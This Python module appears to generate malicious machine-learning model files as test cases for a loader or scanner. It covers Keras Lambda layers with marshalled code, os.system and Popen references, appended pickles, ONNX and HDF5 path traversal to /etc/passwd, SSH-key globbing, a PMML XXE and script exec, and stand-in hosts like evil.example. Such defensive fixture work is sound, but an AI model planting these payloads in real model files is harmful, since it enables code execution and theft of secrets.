"""Graphs: Keras, HDF5, SavedModel, ONNX, OpenVINO, PMML, skops, TorchScript. Made with the libraries of the environment that runs this."""

from __future__ import annotations

import base64
import io
import json
import marshal
import os
import tempfile
from collections.abc import Iterator
from pathlib import Path

from attacks.case import CANARY, SHELL, Case, one, stream, system
from attacks.containers import npy, zipped

KIND = "graph"


def evil_code() -> str:
    """Keras' spelling of a function that makes the canary and returns what it is given."""
    made: dict[str, object] = {}
    exec(compile(f"def f(x):\n    open({CANARY!r}, 'w').close()\n    return x\n", "m", "exec"), made)
    return base64.b64encode(marshal.dumps(made["f"].__code__)).decode() + "\n"  # type: ignore[attr-defined]


def layer(module: str | None, class_name: str, registered: str | None = None, /, **config: object) -> dict[str, object]:
    return {
        "module": module,
        "class_name": class_name,
        "config": config,
        "registered_name": registered,
        "build_config": {"input_shape": [None, 4]},
    }


INPUT = layer("keras.layers", "InputLayer", batch_shape=[None, 4], dtype="float32", name="in")


def sequential(*layers: dict[str, object]) -> dict[str, object]:
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {
            "name": "s",
            "trainable": True,
            "dtype": "float32",
            "layers": [INPUT, *layers],
            "build_input_shape": [None, 4],
        },
        "registered_name": None,
    }


def weights_h5() -> bytes:
    import h5py

    out = io.BytesIO()
    with h5py.File(out, "w") as file:
        file.create_group("layers")
        file.create_group("vars")
    return out.getvalue()


def keras(config: object, more: tuple[tuple[str, bytes], ...] = ()) -> bytes:
    text = config if isinstance(config, bytes) else json.dumps(config).encode()
    metadata = b'{"keras_version": "3.8.0", "date_saved": "2026-01-01@00:00:00"}'
    return zipped([("metadata.json", metadata), ("config.json", text), ("model.weights.h5", weights_h5()), *more])


def keras_cases() -> Iterator[Case]:
    code = {"class_name": "__lambda__", "config": {"code": evil_code(), "defaults": None, "closure": None}}
    forms: dict[str, tuple[object, str]] = {
        "lambda": (sequential(layer("keras.layers", "Lambda", name="l", function=code, output_shape=[4])), "keras"),
        "lambda-nested": (
            sequential(
                layer(
                    "keras.layers",
                    "TimeDistributed",
                    name="t",
                    layer=layer("keras.layers", "Lambda", name="l", function=code),
                )
            ),
            "none",
        ),
        "function-module": (
            sequential(
                layer(
                    "keras.layers",
                    "Activation",
                    name="a",
                    activation={
                        "module": "os",
                        "class_name": "function",
                        "config": "system",
                        "registered_name": "system",
                    },
                )
            ),
            "none",
        ),
        "class-elsewhere": (sequential(layer("subprocess", "Popen", args=["touch", CANARY])), "none"),
        "class-importlib": (layer("importlib", "import_module", name="evil_module"), "none"),
        "get-file": (
            sequential(
                layer(
                    "keras.layers",
                    "Lambda",
                    name="l",
                    function={
                        "module": "keras.utils",
                        "class_name": "function",
                        "config": "get_file",
                        "registered_name": "get_file",
                    },
                    arguments={"origin": "http://127.0.0.1:9/x", "fname": "x"},
                )
            ),
            "none",
        ),
        "run-legacy-loader": (layer("keras.src.legacy.saving.serialization", "func_load", code=evil_code()), "none"),
        "tfsm-layer": (
            sequential(layer("keras.layers", "TFSMLayer", name="t", filepath="/tmp/other", call_endpoint="serve")),
            "none",
        ),
        "torch-module-wrapper": (
            sequential(
                layer(
                    "keras.layers",
                    "TorchModuleWrapper",
                    name="t",
                    module={"__torch__": base64.b64encode(stream(system(), 2)).decode()},
                )
            ),
            "none",
        ),
        "registered-unknown": (sequential(layer(None, "Evil", "custom>Evil", name="e")), "none"),
        "string-lookup-file": (
            sequential(layer("keras.layers", "StringLookup", name="s", vocabulary="/etc/passwd")),
            "none",
        ),
        "enable-unsafe": (layer("keras.config", "enable_unsafe_deserialization"), "none"),
        "load-model-inside": (layer("keras.models", "load_model", filepath="/tmp/evil.keras"), "none"),
        "unknown-class": (sequential(layer("my_package.layers", "Layer", name="x")), "none"),
    }
    for name, (config, loader) in forms.items():
        yield one(KIND, f"keras-{name}", keras(config), path="model.keras", loader=loader)
    honest = json.dumps(sequential(layer("keras.layers", "Dense", name="d", units=4)))
    twice = honest[:-1] + ', "module": "os", "class_name": "system"}'
    yield one(KIND, "keras-key-twice", keras(twice.encode()), path="model.keras", loader="none")
    yield one(
        KIND,
        "keras-two-configs",
        keras(honest.encode(), (("config.json", json.dumps(forms["lambda"][0]).encode()),)),
        path="model.keras",
        loader="none",
    )
    yield one(
        KIND,
        "keras-config-case",
        keras(honest.encode(), (("Config.json", json.dumps(forms["lambda"][0]).encode()),)),
        path="model.keras",
        loader="none",
    )
    yield one(
        KIND,
        "keras-asset-pickle",
        keras(honest.encode(), (("assets/vocab", stream(system(), 2)),)),
        path="model.keras",
        loader="none",
    )
    yield one(
        KIND,
        "keras-npz-object",
        zipped(
            [
                ("metadata.json", b"{}"),
                ("config.json", honest.encode()),
                ("model.weights.npz", zipped([("a.npy", npy("|O", stream(system(), 2)))])),
            ]
        ),
        path="model.keras",
        loader="none",
    )
    yield one(KIND, "keras-json-lambda", json.dumps(forms["lambda"][0]).encode(), path="model.json", loader="none")
    yield from hdf5_cases(forms["lambda"][0])


def hdf5_cases(config: object) -> Iterator[Case]:
    import h5py
    import numpy

    def made(fill: object) -> bytes:
        out = io.BytesIO()
        with h5py.File(out, "w") as file:
            fill(file)  # type: ignore[operator]
        return out.getvalue()

    old = {
        "class_name": "Sequential",
        "config": {
            "name": "s",
            "layers": [
                {
                    "class_name": "InputLayer",
                    "config": {"batch_input_shape": [None, 4], "dtype": "float32", "name": "in"},
                },
                {
                    "class_name": "Lambda",
                    "config": {
                        "name": "l",
                        "function": [evil_code(), None, None],
                        "function_type": "lambda",
                        "output_shape": [4],
                        "output_shape_type": "raw",
                        "arguments": {},
                    },
                },
            ],
        },
    }

    def model(file: object) -> None:
        file.attrs["model_config"] = json.dumps(old)  # type: ignore[attr-defined]
        file.attrs["keras_version"] = "2.12.0"  # type: ignore[attr-defined]
        file.create_group("model_weights").attrs["layer_names"] = numpy.array([], dtype="S1")  # type: ignore[attr-defined]

    def new_form(file: object) -> None:
        file.attrs["model_config"] = json.dumps(config)  # type: ignore[attr-defined]

    def external_link(file: object) -> None:
        file["weights"] = h5py.ExternalLink("/etc/passwd", "/x")  # type: ignore[index]

    def soft_link(file: object) -> None:
        file["weights"] = h5py.SoftLink("/../../x")  # type: ignore[index]

    def external_storage(file: object) -> None:
        file.create_dataset("w", (4,), "<f4", external=[("/etc/passwd", 0, 16)])  # type: ignore[attr-defined]

    def pickled_attribute(file: object) -> None:
        file.create_dataset("w", data=numpy.zeros(4, "<f4")).attrs["state"] = numpy.void(stream(system(), 2))  # type: ignore[attr-defined]

    def huge_shape(file: object) -> None:
        file.create_dataset("w", (1 << 40, 1 << 10), "<f8", chunks=(1 << 10, 1 << 10))  # type: ignore[attr-defined]

    for name, fill in {
        "h5-lambda": model,
        "h5-lambda-new-form": new_form,
        "h5-external-link": external_link,
        "h5-external-storage": external_storage,
        "h5-pickled-attribute": pickled_attribute,
        "h5-huge-shape": huge_shape,
        "h5-dangling-link": soft_link,
    }.items():
        yield one(KIND, name, made(fill), path="model.h5", loader="keras" if name == "h5-lambda" else "none")
    yield one(
        KIND,
        "h5-pickle-in-user-block",
        stream(system(), 2).ljust(512, b"\0") + made(lambda f: f.create_dataset("w", data=numpy.zeros(4, "<f4"))),
        path="model.h5",
        loader="none",
    )
    yield one(
        KIND,
        "h5-pickle-appended",
        made(lambda f: f.create_dataset("w", data=numpy.zeros(4, "<f4"))) + stream(system(), 2),
        path="model.h5",
        loader="none",
    )


def saved_models() -> Iterator[Case]:
    import tensorflow as tf

    class Module(tf.Module):
        def __init__(self, body: object) -> None:
            super().__init__()
            self.serve = tf.function(body, input_signature=[tf.TensorSpec([None], tf.float32)])

    def python(x: object) -> object:
        return tf.py_function(lambda y: y, [x], tf.float32)

    def writes(x: object) -> object:
        tf.io.write_file(CANARY, "x")
        return tf.identity(x)

    def reads(x: object) -> object:
        return tf.strings.length(tf.io.read_file("/etc/passwd"))

    def lists(x: object) -> object:
        return tf.io.matching_files("/home/*/.ssh/*")

    def prints(x: object) -> object:
        tf.print("weights", output_stream="file://" + CANARY)
        return tf.identity(x)

    def saves(x: object) -> object:
        tf.raw_ops.SaveV2(prefix=CANARY, tensor_names=["a"], shape_and_slices=[""], tensors=[x])
        return tf.identity(x)

    for name, body in {
        "py-function": python,
        "write-file": writes,
        "read-file": reads,
        "matching-files": lists,
        "print-to-file": prints,
        "save-v2": saves,
    }.items():
        with tempfile.TemporaryDirectory() as place:
            module = Module(body)
            tf.saved_model.save(module, place, signatures={"serve": module.serve.get_concrete_function()})
            files = {
                str(path.relative_to(place)): path.read_bytes()
                for path in sorted(Path(place).rglob("*"))
                if path.is_file()
            }
        loader = "tensorflow" if name in {"write-file", "print-to-file", "save-v2"} else "none"
        yield Case(id=f"{KIND}/savedmodel-{name}", kind=KIND, files=files, loader=loader, entry=".")
    yield Case(
        id=f"{KIND}/savedmodel-pickled-asset", kind=KIND, files={**files, "assets.extra/state": stream(system(), 2)}
    )


def onnx_cases() -> Iterator[Case]:
    from onnx import TensorProto, helper

    def model(
        node: object, tensor: object = None, opsets: tuple[tuple[str, int], ...] = (("", 20),), **more: object
    ) -> object:
        x = helper.make_tensor_value_info("x", TensorProto.FLOAT, [4])
        y = helper.make_tensor_value_info("y", TensorProto.FLOAT, [4])
        graph = helper.make_graph([node], "g", [x], [y], [tensor] if tensor is not None else [])
        return helper.make_model(graph, opset_imports=[helper.make_opsetid(*o) for o in opsets], **more)

    def outside(location: str, **keys: str) -> bytes:
        tensor = TensorProto(name="w", data_type=TensorProto.FLOAT, dims=[4], data_location=TensorProto.EXTERNAL)
        for key, value in {"location": location, **keys}.items():
            entry = tensor.external_data.add()
            entry.key, entry.value = key, value
        return bytes(model(helper.make_node("Add", ["x", "w"], ["y"]), tensor).SerializeToString())  # type: ignore[attr-defined]

    for name, location in {
        "parent": "../../../etc/passwd",
        "absolute": "/etc/passwd",
        "nested": "a/../../x",
        "backslash": "..\\..\\x",
        "empty": "",
        "device": "/dev/zero",
        "url": "http://evil.example/w",
    }.items():
        yield one(KIND, f"onnx-external-{name}", outside(location), path="model.onnx", loader="none")
    yield one(KIND, "onnx-external-missing", outside("weights.bin"), path="model.onnx", loader="none")
    files = {"model.onnx": outside("weights.bin", offset="1099511627776", length="16"), "weights.bin": bytes(16)}
    yield Case(id=f"{KIND}/onnx-external-past-end", kind=KIND, files=files)
    yield Case(
        id=f"{KIND}/onnx-external-pickle",
        kind=KIND,
        files={"model.onnx": outside("weights.bin", length="16"), "weights.bin": stream(system(), 2)},
    )
    yield Case(
        id=f"{KIND}/onnx-external-negative",
        kind=KIND,
        files={"model.onnx": outside("weights.bin", offset="-8"), "weights.bin": bytes(16)},
    )
    yield Case(
        id=f"{KIND}/onnx-external-link",
        kind=KIND,
        files={"model.onnx": outside("weights.bin")},
        link={"weights.bin": "/etc/passwd"},
    )
    plain = bytes(model(helper.make_node("Relu", ["x"], ["y"])).SerializeToString())  # type: ignore[attr-defined]
    python = model(
        helper.make_node("PyOp", ["x"], ["y"], domain="ai.onnx.contrib", module="os", compute="system"),
        opsets=(("", 20), ("ai.onnx.contrib", 1)),
    )
    yield one(KIND, "onnx-python-operator", bytes(python.SerializeToString()), path="model.onnx", loader="none")  # type: ignore[attr-defined]
    unknown = model(
        helper.make_node("Exec", ["x"], ["y"], domain="evil.ops", command=SHELL), opsets=(("", 20), ("evil.ops", 1))
    )
    yield one(KIND, "onnx-unknown-domain", bytes(unknown.SerializeToString()), path="model.onnx", loader="none")  # type: ignore[attr-defined]
    yield one(KIND, "onnx-pickle-appended", plain + stream(system(), 2), path="model.onnx", loader="none")
    yield one(
        KIND,
        "onnx-field-of-pickle",
        plain + b"\xfa\x7f" + bytes([len(stream(system(), 2))]) + stream(system(), 2),
        path="model.onnx",
        loader="none",
    )
    short = helper.make_tensor("w", TensorProto.FLOAT, [4], bytes(16), raw=True)
    short.dims[0] = 1 << 40
    yield one(
        KIND,
        "onnx-dims-lie",
        bytes(model(helper.make_node("Add", ["x", "w"], ["y"]), short).SerializeToString()),
        path="model.onnx",
        loader="none",
    )  # type: ignore[attr-defined]
    yield one(
        KIND,
        "onnx-length-overflow",
        b"\x08\x0a\x3a\xff\xff\xff\xff\xff\xff\xff\xff\x7f" + plain,
        path="model.onnx",
        loader="none",
    )


def documents() -> Iterator[Case]:
    net = '<?xml version="1.0"?><net name="m" version="11"><layers><layer id="0" name="x" type="{kind}" version="{version}"><data {data}/></layer></layers><edges/></net>'
    for name, (kind, version, data) in {
        "extension-operator": ("EvilOp", "extension", 'library="./evil.so"'),
        "weights-past-end": ("Const", "opset1", 'element_type="f32" shape="4" offset="4096" size="16"'),
        "weights-negative": ("Const", "opset1", 'element_type="f32" shape="4" offset="-8" size="16"'),
    }.items():
        files = {"model.xml": net.format(kind=kind, version=version, data=data).encode(), "model.bin": bytes(16)}
        yield Case(id=f"{KIND}/openvino-{name}", kind=KIND, files=files)
    yield Case(
        id=f"{KIND}/openvino-bin-pickle",
        kind=KIND,
        files={
            "model.xml": net.format(
                kind="Const", version="opset1", data='element_type="f32" shape="1" offset="0" size="4"'
            ).encode(),
            "model.bin": stream(system(), 2),
        },
    )
    xxe = '<?xml version="1.0"?><!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]><PMML version="4.4"><Header description="&x;"/></PMML>'
    yield one(KIND, "pmml-external-entity", xxe.encode(), path="model.pmml", loader="none")
    extension = '<?xml version="1.0"?><PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4"><Header><Extension name="script" value="x"><script>java.lang.Runtime.getRuntime().exec("id")</script></Extension></Header><DataDictionary/></PMML>'
    yield one(KIND, "pmml-script", extension.encode(), path="model.pmml", loader="none")
    stylesheet = '<?xml version="1.0"?><?xml-stylesheet href="http://evil.example/x.xsl" type="text/xsl"?><PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4"><Header/></PMML>'
    yield one(KIND, "pmml-stylesheet", stylesheet.encode(), path="model.pmml", loader="none")


def skops_cases() -> Iterator[Case]:
    def node(loader: str, module: str, name: str, **more: object) -> dict[str, object]:
        return {"__class__": name, "__module__": module, "__loader__": loader, "__id__": 1, **more}

    items = {
        "__class__": "dict",
        "__module__": "builtins",
        "__loader__": "DictNode",
        "__id__": 9,
        "key_types": {
            "__class__": "list",
            "__module__": "builtins",
            "__loader__": "ListNode",
            "__id__": 8,
            "content": [],
        },
        "content": {},
    }
    forms = {
        "function": node("FunctionNode", "os", "system", content={"module_path": "os", "function": "system"}),
        "type": node("TypeNode", "builtins", "type", content={"__class__": "Popen", "__module__": "subprocess"}),
        "method": node(
            "MethodNode", "builtins", "method", content={"func": "system", "obj": node("TypeNode", "os", "x")}
        ),
        "partial": node(
            "PartialNode",
            "functools",
            "partial",
            content={
                "func": node("FunctionNode", "os", "system", content={"module_path": "os", "function": "system"}),
                "args": {},
                "kwds": {},
                "namespace": {},
            },
        ),
        "operator-function": node("OperatorFuncNode", "operator", "methodcaller", attrs=items),
        "object-unknown": node("ObjectNode", "evil_module", "Model", content=items),
        "object-popen": node("ObjectNode", "subprocess", "Popen", content=items),
        "loader-unknown": node("EvilNode", "os", "system", content={}),
    }
    for name, tree in forms.items():
        schema = json.dumps({**tree, "protocol": 2, "_skops_version": "0.16.0"}).encode()
        yield one(KIND, f"skops-{name}", zipped([("schema.json", schema)]), path="model.skops", loader="none")
    honest = json.dumps(
        {**node("JsonNode", "builtins", "str", content='"a"', is_json=True), "protocol": 2, "_skops_version": "0.16.0"}
    ).encode()
    yield one(
        KIND,
        "skops-extra-pickle",
        zipped([("schema.json", honest), ("1.pkl", stream(system(), 2))]),
        path="model.skops",
        loader="none",
    )
    yield one(
        KIND,
        "skops-object-array",
        zipped([("schema.json", honest), ("1.npy", npy("|O", stream(system(), 2)))]),
        path="model.skops",
        loader="none",
    )


def scripts() -> Iterator[Case]:
    """TorchScript and torch.export archives whose pickles, constants or code reach outside."""
    import torch

    with tempfile.TemporaryDirectory() as place:
        path = os.path.join(place, "m.pt")
        torch.jit.save(torch.jit.script(torch.nn.Linear(2, 2)), path)
        import zipfile

        with zipfile.ZipFile(path) as archive:
            members = [(info.filename, archive.read(info)) for info in archive.infolist()]
    top = members[0][0].split("/")[0]
    for name, member in {
        "data": "data.pkl",
        "constants": "constants.pkl",
        "debug": "code/evil.debug_pkl",
        "extra": "extra/notes",
    }.items():
        changed = [(n, d) for n, d in members if n != f"{top}/{member}"] + [(f"{top}/{member}", stream(system(), 2))]
        yield one(KIND, f"torchscript-{name}-pickle", zipped(changed), path="model.pt", loader="none")
    for name, call in {
        "from-file": f'torch.from_file("{CANARY}", True, 4)',
        "save": f'torch.save(x, "{CANARY}")',
        "ops-custom": "ops.evil.run(x)",
    }.items():
        code = f"def forward(self, x: Tensor) -> Tensor:\n  y = {call}\n  return x\n".encode()
        changed = [(n, d + code if n.endswith(".py") and "/code/" in n else d) for n, d in members]
        yield one(KIND, f"torchscript-code-{name}", zipped(changed), path="model.pt", loader="none")


def cases() -> Iterator[Case]:
    yield from keras_cases()
    yield from saved_models()
    yield from onnx_cases()
    yield from documents()
    yield from skops_cases()
    yield from scripts()
